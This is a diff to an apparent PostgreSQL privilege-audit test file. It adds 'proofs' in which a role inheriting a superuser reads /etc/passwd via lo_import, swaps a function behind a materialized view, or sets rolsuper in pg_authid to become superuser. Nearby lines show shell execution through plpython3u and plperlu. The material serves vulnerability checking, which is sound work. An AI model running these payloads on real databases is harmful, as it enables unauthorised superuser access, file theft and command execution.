@@ -11,6 +11,8 @@ const SHOWS_VERIFIER = ["DO $$BEGIN IF NOT EXISTS (SELECT FROM public.logins WHE
 
 const MD5_SUPERUSER = "SET password_encryption = 'md5'; CREATE ROLE keys SUPERUSER LOGIN PASSWORD 'x'; RESET password_encryption";
 
+const INHERITS_SUPERUSER = "CREATE ROLE su SUPERUSER; GRANT su TO app WITH INHERIT TRUE, SET FALSE";
+
 const RUN_BY: readonly (readonly [language: string, body: string])[] = [
   ["plpython3u", "import os\nos.system(command)\nreturn None"],
   ["plperlu", "system($_[0]); return undef"],
@@ -150,6 +152,17 @@ export const OBJECT_PROOFS: readonly Proof[] = [
     title: "lo_import reads any file",
     setup: ["GRANT EXECUTE ON FUNCTION lo_import(text) TO app"],
     undo: ["REVOKE EXECUTE ON FUNCTION lo_import(text) FROM app"],
+    attack: ["SELECT lo_import('/etc/passwd')"],
+    gives: "read-server-files",
+    certainty: "certain",
+    seen: "no error",
+  },
+  {
+    path: "withheld-functions",
+    title: "granted to a superuser, it is in use by those who inherit that one",
+    from: 16,
+    setup: [INHERITS_SUPERUSER, "GRANT EXECUTE ON FUNCTION lo_import(text) TO su"],
+    undo: ["REVOKE EXECUTE ON FUNCTION lo_import(text) FROM su"],
     attack: ["SELECT lo_import('/etc/passwd')"],
     gives: "read-server-files",
     certainty: "certain",
@@ -858,6 +871,35 @@ export const OBJECT_PROOFS: readonly Proof[] = [
     attack: [`CREATE OR REPLACE FUNCTION own.f() RETURNS int LANGUAGE ${RISES}`],
     later: ["REFRESH MATERIALIZED VIEW mv"],
     ...RISING,
+  },
+  {
+    path: "refreshed-code",
+    title: "whoever inherits the superuser refreshes its materialized view itself, and may replace its functions",
+    from: 16,
+    setup: [
+      INHERITS_SUPERUSER,
+      "CREATE SCHEMA own AUTHORIZATION su; CREATE FUNCTION own.f() RETURNS int LANGUAGE sql AS 'SELECT 1'; ALTER FUNCTION own.f() OWNER TO su",
+      "CREATE MATERIALIZED VIEW mv AS SELECT own.f() AS x; ALTER MATERIALIZED VIEW mv OWNER TO su",
+    ],
+    undo: ["ALTER FUNCTION own.f() OWNER TO postgres"],
+    doubted: true,
+    attack: [`CREATE OR REPLACE FUNCTION own.f() RETURNS int LANGUAGE ${RISES}`, "REFRESH MATERIALIZED VIEW public.mv"],
+    gives: "superuser",
+    certainty: "certain",
+    seen: "superuser",
+  },
+  {
+    path: "catalog-writes",
+    title: "granted to a superuser, it is in use by those who inherit that one",
+    from: 16,
+    setup: [INHERITS_SUPERUSER, "GRANT UPDATE (rolsuper) ON pg_authid TO su"],
+    undo: ["REVOKE UPDATE (rolsuper) ON pg_authid FROM su"],
+    doubted: true,
+    attack: ["UPDATE pg_authid SET rolsuper = true"],
+    gives: "superuser",
+    certainty: "certain",
+    seen: "superuser",
+    cleanup: ["UPDATE pg_authid SET rolsuper = false WHERE oid <> 10"],
   },
   {
     path: "trigger-code",
